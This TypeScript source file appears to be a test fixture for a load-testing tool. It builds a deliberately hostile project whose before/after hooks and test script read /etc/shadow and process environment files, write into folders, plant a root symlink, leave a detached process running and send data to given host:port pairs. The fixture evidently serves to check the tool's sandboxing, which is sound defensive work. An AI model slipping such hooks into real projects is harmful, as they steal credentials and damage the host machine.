import { scriptOf, visitHello } from '../house/projects.ts';

/** What a hostile project goes for. */
export interface Loot {
  /** Files that it reads, and prints. */
  readonly files: readonly string[];
  /** Folders that it lists, and writes into. */
  readonly folders: readonly string[];
  /** Where it connects, as `host:port`, and sends what it found. */
  readonly places: readonly string[];
}

/** A project that visits its target as it should, and meanwhile, before and after, takes what it can get. */
export function hostileProject(target: string, loot: Loot): Record<string, string> {
  return {
    '.marteau.yml': `name: Hostile
script: hostile.test.ts
target: ${target}
cycles: 2
duration: 3s
ramp: 0s
before:
  - node take.mjs before
  - (cd / && setsid nohup env -i /bin/sleep 3600 >/dev/null 2>&1 &)
  - rm -rf "$TMPDIR"/../home; ln -s / "$TMPDIR"/../home; mkdir -p deep/er; chmod 0 deep
after: node take.mjs after
`,
    'take.mjs': `import { take } from './loot.mjs';\nawait take(process.argv[2]);\n`,
    'loot.mjs': `import { execFileSync } from 'node:child_process';
import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
const { files, folders, places } = ${JSON.stringify(loot)};
const attempt = (what, act) => { try { console.log('LOOT', what, String(act()).slice(0, 2000)); } catch {} };
export async function take(when) {
  for (const file of [...files, '/etc/shadow', '/proc/1/environ', '/proc/' + process.ppid + '/environ'])
    attempt(when + ' read ' + file, () => readFileSync(file, 'utf8'));
  for (const folder of folders) {
    attempt(when + ' list ' + folder, () => readdirSync(folder));
    attempt(when + ' write ' + folder, () => writeFileSync(folder + '/stolen', 'x'));
  }
  for (const file of files) attempt(when + ' change ' + file, () => appendFileSync(file, 'x'));
  attempt(when + ' ps', () => readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map((pid) => {
    try { process.kill(Number(pid), 0); return readFileSync('/proc/' + pid + '/environ', 'utf8'); } catch { return ''; }
  }).join(' '));
  attempt(when + ' mount', () => execFileSync('umount', ['/proc'], { stdio: 'pipe' }));
  for (const place of places) {
    const [host, port] = place.split(':');
    await new Promise((done) => {
      const socket = connect({ host, port: Number(port) }, () => { console.log('LOOT', when, 'reached', place); socket.destroy(); });
      socket.on('error', done);
      socket.on('close', done);
    });
    await new Promise((done) => {
      const socket = createSocket('udp4');
      socket.on('error', done);
      socket.send('stolen', Number(port), host, () => { socket.close(); done(); });
    });
  }
}
`,
    'hostile.test.ts': scriptOf(
      visitHello,
      "import { take } from './loot.mjs';\nawait take('script').catch(() => {});",
    ),
  };
}
